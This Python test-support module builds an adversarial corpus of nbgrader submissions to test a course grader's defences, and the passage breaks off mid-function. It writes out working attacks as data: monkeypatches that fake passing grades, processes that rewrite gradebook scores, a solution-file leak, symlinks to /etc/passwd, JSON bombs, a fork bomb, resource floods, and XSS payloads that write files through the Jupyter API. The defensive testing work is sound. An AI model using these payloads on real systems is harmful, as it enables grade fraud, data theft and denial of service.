"""The adversarial corpus: every way we know to game an nbgrader-graded Frame Lab notebook.

Each cheat starts from the released notebook with a blank or wrong answer file, then does one
trick. :func:`write_corpus` writes one submission per cheat (plus an honest ``blank`` and a
``solution``) into a course's ``submitted/`` folder, generated from that course's release, so it
applies to every graded module as it arrives. ``test_adversarial.py`` grades them; run this file
to print each cheat's score under stock ``nbgrader autograde`` and under ``framelab grade``:

    python tests/adversarial.py [ASSIGNMENT ...]
"""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat

from framelab.bank.loader import Bank, Module, gold
from framelab.core.vocabulary import NONE_OF_THE_MOVES, OPTION_SETS
from framelab.scoring import answers as store

Nb = nbformat.NotebookNode


@dataclass(frozen=True)
class Cheat:
    name: str
    what: str
    start: str  # "blank" or "wrong": the answer file it starts from
    apply: Callable[[Nb, Path, Module, Bank], Nb | None]  # returns the notebook to write, or None
    #: the notebook makes nbgrader itself fail: reported per trainee, never graded
    fails: bool = False


def _answer_cells(nb: Nb, module: Module) -> list[tuple[Any, Any]]:
    ids = {ex.id: ex for ex in module.meta.exercises}
    return [(c, ids[gid]) for c in nb.cells if (gid := c.metadata.get("nbgrader", {}).get("grade_id")) in ids]


def _test_cells(nb: Nb) -> list[Any]:
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"]


def as_asked(module: Module, asked: dict[str, list[str]] | None) -> Module:
    """The module as one trainee meets it: with variants on (``asked``, that trainee's variant) each exercise's
    items are the ones their notebook shows, so a cheat that names items names those."""
    if not asked:
        return module
    exercises = [ex.model_copy(update={"items": list(asked.get(ex.id, ex.items))}) for ex in module.meta.exercises]
    return dataclasses.replace(module, meta=module.meta.model_copy(update={"exercises": exercises}))


def in_answer_cells(code: Callable[[str, list[str]], str]) -> Callable[[Nb, Path, Module, Bank], Nb]:
    """A cheat that rewrites every answer cell: ``code(exercise_id, items)`` is its new source."""

    def apply(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
        for cell, ex in _answer_cells(nb, module):
            cell.source = code(ex.id, list(ex.items))
        return nb

    return apply


def first_answer_cell(code: str) -> Callable[[Nb, Path, Module, Bank], Nb]:
    """A cheat that runs ``code`` in the first answer cell (then picks nothing)."""

    def apply(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
        cell, ex = _answer_cells(nb, module)[0]
        cell.source = code + f"\n{ex.id} = lesson.exercise({ex.id!r}).pick()"
        return nb

    return apply


RIGGED_STR = """class Yes(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
"""
RIGGED_DICT = """class Everything(dict):
    def __contains__(self, key): return True
    def get(self, key, default=None): return "validate"
    def __getitem__(self, key): return "validate"
"""
RIGGED_LIST = """class Same(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
"""


def _tests(fn: Callable[[list[Any]], None]) -> Callable[[Nb, Path, Module, Bank], Nb]:
    def apply(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
        fn(_test_cells(nb))
        return nb

    return apply


def _delete_tests(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
    tests = {id(c) for c in _test_cells(nb)}
    nb.cells = [c for c in nb.cells if id(c) not in tests]
    return nb


def _blank_tests(cells: list[Any]) -> None:
    for c in cells:
        c.source = ""


def _markdown_tests(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
    for i, c in enumerate(nb.cells):
        if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code":
            md = nbformat.v4.new_markdown_cell(c.source, metadata=c.metadata)
            md.id = c.id
            nb.cells[i] = md
    return nb


def _points(cells: list[Any]) -> None:
    for c in cells:
        c.metadata["nbgrader"]["points"] = 100


def _rename_ids(cells: list[Any]) -> None:
    for c in cells:
        c.metadata["nbgrader"]["grade_id"] += "_mine"


def _checksums(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
    for c in nb.cells:
        meta = c.metadata.get("nbgrader", {})
        if meta.get("grade") or meta.get("solution"):
            meta["checksum"] = "0" * 32
            meta["points"] = 100 if meta.get("grade") else meta.get("points")
    return nb


def _truncate(nb: Nb, folder: Path, module: Module, bank: Bank) -> None:
    path = folder / f"{module.folder}.ipynb"
    text = nbformat.writes(nb)
    path.write_text(text[: len(text) // 2], encoding="utf-8")
    return None


def _missing(nb: Nb, folder: Path, module: Module, bank: Bank) -> None:
    return None


def _renamed(nb: Nb, folder: Path, module: Module, bank: Bank) -> None:
    nbformat.write(nb, folder / f"{module.folder} (copy).ipynb")
    return None


def _answers_raw(payload: Callable[[Module], Any]) -> Callable[[Nb, Path, Module, Bank], Nb]:
    def apply(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
        data = payload(module)
        text = data if isinstance(data, str) else json.dumps(data)
        (folder / store.FILENAME).write_text(text, encoding="utf-8")
        return nb

    return apply


def _stuffed(module: Module) -> dict[str, Any]:
    exercises = {}
    for ex in module.meta.exercises:
        every = [v for v in OPTION_SETS[ex.kind][0] if v != NONE_OF_THE_MOVES]
        exercises[ex.id] = {iid: every for iid in ex.items}
    return {"format": store.FORMAT, "exercises": exercises}


def _wrong_types(module: Module) -> dict[str, Any]:
    odd: list[Any] = [{"$eq": True}, 1, True, None, [["validate"]], {"validate": 1}]
    exercises = {ex.id: {iid: odd[n % len(odd)] for n, iid in enumerate(ex.items)} for ex in module.meta.exercises}
    return {"format": store.FORMAT, "exercises": exercises}


def _huge(module: Module) -> str:
    ex = module.meta.exercises[0]
    return json.dumps({"format": store.FORMAT, "exercises": {ex.id: {"pad": "x" * 30_000_000}}})


#: Finds the course root from inside the kernel: up from the working folder, or the path a
#: trainee could know (``{course}``, filled in when the corpus is written).
FIND_COURSE = """import json, os, pathlib, subprocess, sys
def _course():
    here = pathlib.Path.cwd()
    for p in [here, *here.parents, pathlib.Path({course!r})]:
        try:
            if (p / "submitted").is_dir() and (p / "nbgrader_config.py").exists():
                return p
        except OSError:
            pass
COURSE = _course()
ME = {me!r}
ASSIGNMENT = {assignment!r}
"""
#: In the argv of every process an attack leaves running, so that a test can look for survivors.
LINGER_MARK = "framelab-adversarial-lingering"
#: A JSON bomb: nesting far past any real file, small enough to pass a size check.
BOMB = "[" * 100_000 + "]" * 100_000


def with_course(code: str) -> Callable[[Nb, Path, Module, Bank], Nb]:
    """A cheat whose first answer cell reaches for the course root (``COURSE``, None if it cannot)."""

    def apply(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
        course, me = folder.parents[2], folder.parent.name
        prelude = FIND_COURSE.format(course=str(course), me=me, assignment=module.folder)
        return first_answer_cell(prelude + code)(nb, folder, module, bank)

    return apply


WRITE_OWN = """if COURSE:
    mine = COURSE / "submitted" / ME / ASSIGNMENT / "answers.json"
    mine.write_text((COURSE / "submitted" / "solution" / ASSIGNMENT / "answers.json").read_text())
"""
WRITE_PEERS = """if COURSE:
    for path in COURSE.rglob("answers.json"):
        if ME not in path.parts:
            try:
                path.write_text(json.dumps({"format": "framelab-answers/1", "exercises": {}}))
            except OSError:
                pass
"""
_LINGER_CODE = (
    "import pathlib, sqlite3, sys, time\n"
    "course, me = pathlib.Path(sys.argv[1]), sys.argv[2]\n"
    "end = time.time() + 150\n"
    "while time.time() < end:\n"
    "    for db in course.rglob('gradebook*.db'):\n"
    "        try:\n"
    "            c = sqlite3.connect(db, timeout=0.1)\n"
    "            c.execute('UPDATE grade SET manual_score = 100 WHERE notebook_id IN (SELECT sn.id FROM '\n"
    "                      'submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id '\n"
    "                      'WHERE sa.student_id = ?)', (me,))\n"
    "            c.commit(); c.close()\n"
    "        except Exception:\n"
    "            pass\n"
    "    time.sleep(0.2)\n"
)
LINGER = f"""if COURSE:
    subprocess.Popen([sys.executable, "-c", {_LINGER_CODE!r}, str(COURSE), ME, {LINGER_MARK!r}],
                     start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
_LOCK_CODE = (
    "import sqlite3, sys, time\n"
    "c = sqlite3.connect(sys.argv[1], isolation_level=None)\n"
    "c.execute('BEGIN EXCLUSIVE')\n"
    "time.sleep(150)\n"
)
LOCK = f"""if COURSE:
    subprocess.Popen([sys.executable, "-c", {_LOCK_CODE!r}, str(COURSE / "gradebook.db"), {LINGER_MARK!r}],
                     start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
LEAK_KEY = """leak = []
if COURSE:
    for path in sorted(COURSE.glob("source/*/*.ipynb")) + sorted(COURSE.glob("modules/**/*.y*ml")):
        leak.append(path.read_text())
text = "\\n".join(leak)
print(text[:15000])
pathlib.Path("key.txt").write_text(text)
"""
SCRIBBLE_AND_CRASH = """bomb = "[" * 100000 + "]" * 100000
if COURSE:
    mine = COURSE / "submitted" / ME / ASSIGNMENT / "answers.json"
    mine.write_text('{"format": "framelab-answers/1", "exercises": ' + bomb + "}")
pathlib.Path("answers.json").write_text(bomb)
def grade_answer(*args, **kwargs):
    return None
"""


def _link(target: Callable[[Path, Module], str], name: str = store.FILENAME) -> Callable[[Nb, Path, Module, Bank], Nb]:
    """A submission in which ``name`` (or the notebook) is a symbolic link to ``target(folder, module)``."""

    def apply(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb | None:
        path = folder / (f"{module.folder}.ipynb" if name == "notebook" else name)
        path.unlink(missing_ok=True)
        path.symlink_to(target(folder, module))
        return None if name == "notebook" else nb

    return apply


def _bomb_answers(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
    (folder / store.FILENAME).write_text('{"format": "framelab-answers/1", "exercises": ' + BOMB + "}")
    return nb


def _bomb_notebook(nb: Nb, folder: Path, module: Module, bank: Bank) -> None:
    text = nbformat.writes(nb).replace('"metadata": {', '"metadata": {"bomb": ' + BOMB + ", ", 1)
    (folder / f"{module.folder}.ipynb").write_text(text, encoding="utf-8")
    return None


def _cheat_and_bomb(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
    _bomb_answers(nb, folder, module, bank)
    return first_answer_cell("def grade_answer(*args, **kwargs):\n    return None")(nb, folder, module, bank)


# --- markup that would run where an instructor reads the work (formgrader, feedback, the report) ---
#: what each payload would do if it ran: set a flag, and write a file into the course root through the
#: Jupyter contents API with the reader's rights (tests/test_browser_markup.py looks for both)
PWN_JS = (
    "window.__pwned=1;fetch('/api/contents/pwned.txt',{method:'PUT',headers:{'Content-Type':'application/json'},"
    "body:JSON.stringify({type:'file',format:'text',content:'pwned'})})"
)
MARKUP_REFLECTION = (
    f'A door closing.\n\n<img src=x onerror="{PWN_JS}">\n\n[my notes](javascript:{PWN_JS.replace(" ", "")})'
)
MARKUP_OUTPUTS = f"""from IPython.display import HTML, SVG, Javascript, display
display(HTML({f'<img src=x onerror="{PWN_JS}"><script>{PWN_JS}</script>'!r}))
display(Javascript({PWN_JS!r}))
display(SVG({f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN_JS}"><script>{PWN_JS}</script></svg>'!r}))"""


def _markup_reflection(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
    """Every written answer (or, in a module without one, a new markdown cell) holds the markup."""
    written = [c for c in nb.cells if c.cell_type == "markdown" and c.metadata.get("nbgrader", {}).get("solution")]
    for cell in written:
        cell.source = MARKUP_REFLECTION
    if not written:
        nb.cells.append(nbformat.v4.new_markdown_cell(MARKUP_REFLECTION))
    return nb


def _markup_attachment(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
    """A markdown cell whose attachments are an HTML page and an SVG with a script, shown and linked."""
    import base64

    def b64(text: str) -> str:
        return base64.b64encode(text.encode()).decode()

    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN_JS}"><script>{PWN_JS}</script></svg>'
    cell = nbformat.v4.new_markdown_cell("![a picture](attachment:a.svg) and [a page](attachment:p.html)")
    cell["attachments"] = {
        "a.svg": {"image/svg+xml": b64(svg)},
        "p.html": {"text/html": b64(f"<script>{PWN_JS}</script>")},
    }
    nb.cells.append(cell)
    return nb


def _fifo(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
    os.mkfifo(folder / "pipe")
    return nb


def _odd_name(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
    (folder / os.fsdecode(b"notes-\xff\xfe.txt")).write_bytes(b"not UTF-8")
    return nb


def _deep(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
    os.makedirs(os.path.join(folder, *["d"] * 40))
    return nb


def _many(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
    for n in range(2_100):
        (folder / f"e{n}").mkdir()
    return nb


TMP_FLOOD = """import os
try:
    with open("/tmp/flood", "wb") as fh:
        for _ in range(1024):
            fh.write(b"x" * 1024**2)
except OSError as exc:
    print("refused:", exc.strerror)
"""
DISK_FLOOD = TMP_FLOOD.replace("/tmp/flood", "flood")


def _many_outputs(nb: Nb, folder: Path, module: Module, bank: Bank) -> Nb:
    """320 cells of its own, each printing 18 KB: every output is under the per-output bound."""
    cell, _ = _answer_cells(nb, module)[0]
    at = nb.cells.index(cell) + 1
    nb.cells[at:at] = [nbformat.v4.new_code_cell(f"print({n}, 'x' * 18_000)") for n in range(320)]
    return nb


FD_LOG = """import os
for fd in range(1, 20):
    try:
        os.write(fd, b"framelab-adversarial: written through an inherited descriptor\\n")
        print(fd, os.readlink(f"/proc/self/fd/{fd}"))
    except OSError:
        pass
"""
CPU_HOG = """import subprocess, sys
hogs = [subprocess.Popen([sys.executable, "-c", "import time\\nend = time.time() + 10\\nwhile time.time() < end: pass"])
        for _ in range(56)]
for h in hogs:
    h.wait()
"""
FORK_BOMB = """import os, time
me, end = os.getpid(), time.time() + 10
while time.time() < end:  # every process forks, until the bound on processes refuses, and spins
    try:
        os.fork()
    except OSError:
        pass
if os.getpid() != me:
    os._exit(0)
while True:
    try:
        os.wait()
    except ChildProcessError:
        break
"""
# the /tmp flood (1 GB), then six children holding 700 MB each: the tree's bound counts them together
MEMORY_HOG = (
    TMP_FLOOD.replace("/tmp/flood", "/tmp/hog")
    + """import subprocess, sys
child = "import time\\nb = bytearray(700 * 1024**2)\\nb[::4096] = b'x' * len(b[::4096])\\ntime.sleep(20)"
kids = [subprocess.Popen([sys.executable, "-c", child]) for _ in range(6)]
print([k.wait() for k in kids])
"""
)

CHEATS: list[Cheat] = [
    Cheat(
        "rigged_str",
        "answers are a str subclass whose == is always True",
        "blank",
        in_answer_cells(lambda ex, items: RIGGED_STR + f"{ex} = {{i: Yes('validate') for i in {items!r}}}"),
    ),
    Cheat(
        "rigged_dict",
        "the answers object is a dict subclass that reports every key as present",
        "blank",
        in_answer_cells(lambda ex, items: RIGGED_DICT + f"{ex} = Everything()"),
    ),
    Cheat(
        "rigged_list",
        "tick-box answers are a list subclass whose == is always True",
        "blank",
        in_answer_cells(lambda ex, items: RIGGED_LIST + f"{ex} = {{i: Same(['validate']) for i in {items!r}}}"),
    ),
    Cheat("label_stuffing", "every label ticked for every item (saved answers)", "blank", _answers_raw(_stuffed)),
    Cheat(
        "patch_grade_answer",
        "redefines grade_answer (the function the hidden tests call)",
        "blank",
        first_answer_cell("def grade_answer(*args, **kwargs):\n    return None"),
    ),
    Cheat(
        "patch_framelab_checks",
        "monkeypatches framelab.scoring.checks: its helpers and the sorted() it calls",
        "wrong",
        first_answer_cell(
            "import framelab.scoring.checks as c\nc._blank = lambda v: False\nc._values = lambda *a: ['x']\n"
            "c.sorted = lambda *a, **k: []\nc.grade_answer.__globals__['sorted'] = c.sorted"
        ),
    ),
    Cheat(
        "patch_framelab_answers",
        "monkeypatches framelab.scoring.answers.read to hand back the 'right' answers",
        "blank",
        first_answer_cell(
            "import framelab.scoring.answers as a\na.read = lambda path: {}\nimport framelab.scoring.checks as c"
        ),
    ),
    Cheat(
        "builtin_sorted",
        "overrides builtins.sorted so that every comparison of answers is equal",
        "wrong",
        first_answer_cell("import builtins\nbuiltins.sorted = lambda *a, **k: []"),
    ),
    Cheat(
        "builtin_type",
        "overrides builtins.type so that type checks always say 'plain'",
        "wrong",
        first_answer_cell(
            "import builtins\n_t = builtins.type\nbuiltins.type = lambda *a: dict if len(a) == 1 else _t(*a)"
        ),
    ),
    Cheat(
        "builtin_isinstance",
        "overrides builtins.isinstance to always say True",
        "wrong",
        first_answer_cell("import builtins\nbuiltins.isinstance = lambda *a: True"),
    ),
    Cheat(
        "builtin_all_len",
        "overrides builtins.all and builtins.len",
        "wrong",
        first_answer_cell("import builtins\nbuiltins.all = lambda *a: True\nbuiltins.len = lambda *a: 0"),
    ),
    Cheat(
        "builtin_assertionerror",
        "replaces AssertionError, so that failed checks raise something harmless",
        "wrong",
        first_answer_cell(
            "import builtins\nclass Quiet(BaseException):\n    pass\nbuiltins.AssertionError = Quiet\n"
            "import framelab.scoring.checks as c\nc.AnswerProblem.__bases__ = (Exception,)"
        ),
    ),
    Cheat(
        "swallow_errors",
        "an IPython custom exception handler hides every error, so failed tests show no error",
        "wrong",
        first_answer_cell("get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"),
    ),
    Cheat(
        "rewrite_later_cells",
        "an IPython input transformer turns every later cell (the tests) into 'pass'",
        "wrong",
        first_answer_cell("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"),
    ),
    Cheat(
        "fake_partial_credit",
        "makes every cell's result display as a number (nbgrader reads numbers as partial credit)",
        "wrong",
        first_answer_cell(
            "import sys\nsys.displayhook = lambda value: print('1.0')\n"
            "get_ipython().display_formatter.formatters['text/plain'].for_type(type(None), lambda *a: '1.0')\n"
            "get_ipython().events.register('post_run_cell', lambda result: setattr(result, 'error_in_exec', None))"
        ),
    ),
    Cheat("sys_exit", "calls sys.exit() in the answer cell", "wrong", first_answer_cell("import sys\nsys.exit(0)")),
    Cheat(
        "os_exit",
        "kills its own kernel with os._exit()",
        "wrong",
        first_answer_cell("import os\nos._exit(0)"),
        fails=True,
    ),
    Cheat("endless_loop", "never finishes (while True)", "wrong", first_answer_cell("while True:\n    pass")),
    Cheat("output_flood", "prints 10 MB of output", "wrong", first_answer_cell("print('x' * 10_000_000)")),
    Cheat("tests_deleted", "deletes every test cell", "wrong", _delete_tests),
    Cheat("tests_blanked", "empties every test cell", "wrong", _tests(_blank_tests)),
    Cheat("tests_to_markdown", "turns every test cell into markdown", "wrong", _markdown_tests),
    Cheat("points_raised", "sets every test cell to 100 points", "wrong", _tests(_points)),
    Cheat("grade_ids_renamed", "renames every test cell's grade id", "wrong", _tests(_rename_ids)),
    Cheat("checksums_tampered", "rewrites checksums (and points) in the nbgrader metadata", "wrong", _checksums),
    Cheat("notebook_truncated", "submits half a notebook (invalid JSON)", "wrong", _truncate, fails=True),
    Cheat("notebook_missing", "submits only the answers file, no notebook", "wrong", _missing),
    Cheat("notebook_renamed", "submits the notebook under another name", "wrong", _renamed),
    Cheat(
        "answers_wrong_types",
        "saved answers of the wrong types (objects, numbers, nested lists)",
        "blank",
        _answers_raw(_wrong_types),
    ),
    Cheat("answers_huge", "a 30 MB saved-answers file", "blank", _answers_raw(_huge)),
    # reaching out of the kernel: the sandbox hides the course root from every one of these
    Cheat(
        "write_own_submitted",
        "copies a peer's right answers into its own submitted/ folder",
        "blank",
        with_course(WRITE_OWN),
    ),
    Cheat(
        "write_peer_submitted",
        "blanks every other answers.json it can reach (peers' submitted/)",
        "wrong",
        with_course(WRITE_PEERS),
    ),
    Cheat(
        "lingering_gradebook",
        "leaves a process that keeps setting its grades in any gradebook",
        "wrong",
        with_course(LINGER),
    ),
    Cheat("gradebook_lock", "leaves a process holding an exclusive lock on gradebook.db", "wrong", with_course(LOCK)),
    Cheat(
        "key_leak",
        "reads the source notebooks and the bank, prints them and saves them beside itself",
        "wrong",
        with_course(LEAK_KEY),
    ),
    Cheat(
        "cheat_then_crash",
        "redefines grade_answer and writes JSON bombs into its answers as it runs",
        "wrong",
        with_course(SCRIBBLE_AND_CRASH),
    ),
    # bad files in the submission itself: refused before any code runs
    Cheat(
        "symlink_passwd",
        "answers.json is a symbolic link to /etc/passwd",
        "blank",
        _link(lambda folder, module: "/etc/passwd"),
        fails=True,
    ),
    Cheat(
        "symlink_peer",
        "answers.json is a symbolic link to a peer's answers",
        "blank",
        _link(lambda folder, module: f"../../solution/{module.folder}/answers.json"),
        fails=True,
    ),
    Cheat(
        "symlink_source",
        "the notebook is a symbolic link to the source notebook (the solutions)",
        "blank",
        _link(
            lambda folder, module: str(folder.parents[2] / "source" / module.folder / f"{module.folder}.ipynb"),
            "notebook",
        ),
        fails=True,
    ),
    Cheat("bomb_answers", "answers.json nested 100,000 levels deep", "blank", _bomb_answers, fails=True),
    Cheat("bomb_notebook", "the notebook nested 100,000 levels deep", "blank", _bomb_notebook, fails=True),
    Cheat(
        "cheat_and_bomb",
        "redefines grade_answer and submits a nested-JSON answers file",
        "blank",
        _cheat_and_bomb,
        fails=True,
    ),
    # markup that would run as the instructor reads the work: cleaned before autograded/ and before every view
    Cheat(
        "markup_reflection",
        "a written answer holding <img onerror> and a javascript: link",
        "blank",
        _markup_reflection,
    ),
    Cheat(
        "markup_outputs",
        "display(HTML(...)), display(Javascript(...)) and an SVG with a script, as a cell's outputs",
        "blank",
        first_answer_cell(MARKUP_OUTPUTS),
    ),
    Cheat(
        "markup_attachment",
        "a markdown cell with an HTML page and a scripted SVG as attachments",
        "blank",
        _markup_attachment,
    ),
    # issue 27: what a submission's folder holds, and a notebook's whole tree (the snapshot, the sandbox)
    Cheat("fifo_beside", "a FIFO beside the notebook (a copy would wait on it forever)", "blank", _fifo, fails=True),
    Cheat("odd_name", "a file whose name is not UTF-8 beside the notebook", "wrong", _odd_name),
    Cheat("deep_folders", "folders nested 40 deep beside the notebook", "blank", _deep, fails=True),
    Cheat("many_folders", "2,100 empty folders beside the notebook", "blank", _many, fails=True),
    Cheat(
        "symlink_notes_key",
        "notes.txt is a symbolic link to the capstone's key in modules/",
        "blank",
        _link(lambda folder, module: "../../../modules/m6_capstone/responses.yaml", "notes.txt"),
        fails=True,
    ),
    Cheat(
        "tmp_flood",
        "fills /tmp (memory on the grading machine) until it is refused",
        "wrong",
        first_answer_cell(TMP_FLOOD),
    ),
    Cheat("disk_flood", "fills its working folder until it is refused", "wrong", first_answer_cell(DISK_FLOOD)),
    Cheat("many_outputs", "320 outputs of 18 KB each: a 6 MB graded notebook", "wrong", _many_outputs),
    Cheat(
        "worker_log", "writes into the grader's log through inherited descriptors", "wrong", first_answer_cell(FD_LOG)
    ),
    Cheat("cpu_hog", "56 busy processes for 10 s, to slow its peers", "wrong", first_answer_cell(CPU_HOG)),
    Cheat("fork_bomb", "every process forks until refused, for 10 s", "wrong", first_answer_cell(FORK_BOMB)),
    Cheat(
        "memory_hog",
        "6 processes holding 700 MB each, after 1 GB written to /tmp (each under the per-process bound)",
        "wrong",
        first_answer_cell(MEMORY_HOG),
    ),
]


#: Cheats that reach out of the kernel (the sandbox's business), and submissions refused before any code runs.
ESCAPES = {
    "write_own_submitted",
    "write_peer_submitted",
    "lingering_gradebook",
    "gradebook_lock",
    "key_leak",
    "cheat_then_crash",
}
BAD_FILES = {"symlink_passwd", "symlink_peer", "symlink_source", "bomb_answers", "bomb_notebook", "cheat_and_bomb"}
#: What a submission's folder holds that a plain copy (stock nbgrader's) trips on or follows (issue 27):
#: refused or skipped before any code runs; left out of stock runs, which would hang on the FIFO.
HOSTILE_FILES = {"fifo_beside", "odd_name", "deep_folders", "many_folders", "symlink_notes_key"}
#: Bounds on a notebook's whole process tree (issue 27): left out of stock runs (no bound there).
TREE_BOUNDS = {"tmp_flood", "disk_flood", "many_outputs", "worker_log", "cpu_hog", "fork_bomb", "memory_hog"}

#: Cheats that stall the kernel, so that every cell waits out its 30 s limit.
STALLS = {"builtin_type", "builtin_isinstance", "builtin_all_len", "endless_loop"}


def answer_file(module: Module, bank: Bank, how: str, asked: dict[str, list[str]] | None = None) -> dict[str, Any]:
    """The saved answers a submission starts from: 'blank', 'wrong' (every item wrong) or 'solution', for
    the items each exercise asks (``asked``: a trainee's variant; by default every exercise's fixed form)."""
    items = bank.items()
    exercises: dict[str, Any] = {}
    for ex in module.meta.exercises:
        picks: dict[str, Any] = {}
        for iid in (asked or {}).get(ex.id, ex.items):
            right = gold(items[iid], ex.kind)
            if how == "solution":
                picks[iid] = right
            elif how == "wrong":
                options = [v for v in OPTION_SETS[ex.kind][0]]
                if isinstance(right, list):
                    picks[iid] = [NONE_OF_THE_MOVES] if right != [NONE_OF_THE_MOVES] else [options[0]]
                else:
                    picks[iid] = next(v for v in options if v != right)
        if picks:
            exercises[ex.id] = picks
    return {"format": store.FORMAT, "exercises": exercises}


def write_corpus(
    course: Path, assignment: str, bank: Bank, cheats: list[Cheat] | None = None, salt: str | None = None
) -> list[str]:
    """One submission per cheat, plus 'blank', 'wrong' and 'solution', in ``course/submitted``. With
    ``salt`` (a course with variants on), each starts from answers to its own trainee's variant, drawn with
    that salt. Returns the trainee ids written."""
    from framelab.bank.variants import variant

    module = bank.module(assignment)
    release = course / "release" / assignment
    written = []
    for who, cheat in [("blank", None), ("wrong", None), ("solution", None), *((c.name, c) for c in cheats or CHEATS)]:
        folder = course / "submitted" / who / assignment
        if folder.exists():
            shutil.rmtree(folder)
        shutil.copytree(release, folder)
        start = cheat.start if cheat else who
        asked = variant(module, bank, who, salt) if salt is not None else None
        (folder / store.FILENAME).write_text(json.dumps(answer_file(module, bank, start, asked)), encoding="utf-8")
        nb_path = folder / f"{assignment}.ipynb"
        nb = nbformat.read(nb_path, as_version=4)
        if cheat is not None:
            nb_path.unlink()
            result = cheat.apply(nb, folder, as_asked(module, asked), bank)
            if result is not None:
                nbformat.write(result, nb_path)
        (folder / "timestamp.txt").write_text("2026-11-29 12:00:00.000000 UTC", encoding="utf-8")
        written.append(who)
    return written


def total_scores(course: Path, assignment: str) -> dict[str, float | None]:
    """Each trainee's total score of record (automatic and manual) in the gradebook."""
    from nbgrader.api import Gradebook, MissingEntry

    out: dict[str, float | None] = {}
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "framelab") as gb:
        for student in gb.students:
            try:
                out[student.id] = float(gb.find_submission(assignment, student.id).score)
            except MissingEntry:
                out[student.id] = None
    return out


def survivors(course: Path | None = None) -> list[str]:
    """Processes an attack left running (their command line carries :data:`LINGER_MARK`); with
    ``course``, only those aimed at that course (each attack names the course it found), so that
    grading runs in other courses at the same time are told apart."""
    found = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit() or int(proc.name) == os.getpid():
            continue
        try:
            cmd = (proc / "cmdline").read_bytes()
        except OSError:
            continue
        if LINGER_MARK.encode() in cmd and (course is None or str(course).encode() in cmd):
            found.append(proc.name)
    return found


def auto_scores(course: Path, assignment: str) -> dict[str, float | None]:
    """Each trainee's total auto-graded score in the gradebook (None: not graded)."""
    from nbgrader.api import Gradebook, MissingEntry

    out: dict[str, float | None] = {}
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "framelab") as gb:
        for student in gb.students:
            try:
                sub = gb.find_submission(assignment, student.id)
            except MissingEntry:
                out[student.id] = None
                continue
            out[student.id] = sum(g.auto_score or 0 for nb in sub.notebooks for g in nb.grades if g.cell_type == "code")
    return out


def main(argv: list[str]) -> None:
    """Print each cheat's score under stock nbgrader and under framelab grade."""
    import os
    import subprocess
    import tempfile

    from framelab.instructor.demo import prepare_course

    root = Path(__file__).resolve().parents[1]
    bin_dir = Path(sys.executable).parent
    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}"}
    with tempfile.TemporaryDirectory() as tmp:
        base = Path(tmp) / "base"
        prepared = prepare_course(base, root=root, trainees=1, assignments=argv or None, say=lambda *_: None)
        for assignment in prepared.assignments:
            shutil.rmtree(base / "submitted", ignore_errors=True)
            write_corpus(base, assignment, prepared.bank)
            stock, ours = Path(tmp) / "stock", Path(tmp) / "ours"
            for d in (stock, ours):
                shutil.rmtree(d, ignore_errors=True)
                subprocess.run(["cp", "-a", str(base), str(d)], check=True)  # FIFOs and odd names as they are
            for name in STALLS | HOSTILE_FILES | TREE_BOUNDS:  # stock has no bounds: minutes each, or a hang
                subprocess.run(["rm", "-rf", str(stock / "submitted" / name)], check=True)
            subprocess.run(
                [str(bin_dir / "nbgrader"), "autograde", assignment], cwd=stock, env=env, capture_output=True
            )
            proc = subprocess.run(
                [str(bin_dir / "framelab"), "grade", assignment, "--no-progress"],
                cwd=ours,
                env=env,
                capture_output=True,
                text=True,
            )
            before, after = auto_scores(stock, assignment), auto_scores(ours, assignment)
            reasons = {line.split()[0]: line for line in proc.stdout.splitlines() if line.strip()}
            print(f"\n{assignment}: auto-graded points (blank scores {after.get('blank')})")
            print(f"  {'submission':24}{'stock nbgrader':>16}{'framelab grade':>16}")
            for who in ["blank", "wrong", "solution", *(c.name for c in CHEATS)]:
                b, a = before.get(who), after.get(who)
                shown_b = (
                    "not run"
                    if who in STALLS | HOSTILE_FILES | TREE_BOUNDS
                    else "not graded"
                    if b is None
                    else f"{b:g}"
                )
                shown_a = "not graded" if a is None else f"{a:g}"
                note = " (reported failed)" if "failed" in reasons.get(who, "") else ""
                print(f"  {who:24}{shown_b:>16}{shown_a:>16}{note}")


if __name__ == "__main__":
    main(sys.argv[1:])


# --------------------------------------------------------------------------- per-trainee variants

#: Submissions for a course with variants on (``c.FrameLab.variants = True``), each a trainee id: two honest
#: trainees, and three who try to be graded on items outside their own variant.
VARIANT_TRAINEES = ("ana", "ben", "claims_other", "forged_id", "edited_notebook")


def _right_for(module: Module, bank: Bank, asked: dict[str, list[str]]) -> dict[str, Any]:
    items = bank.items()
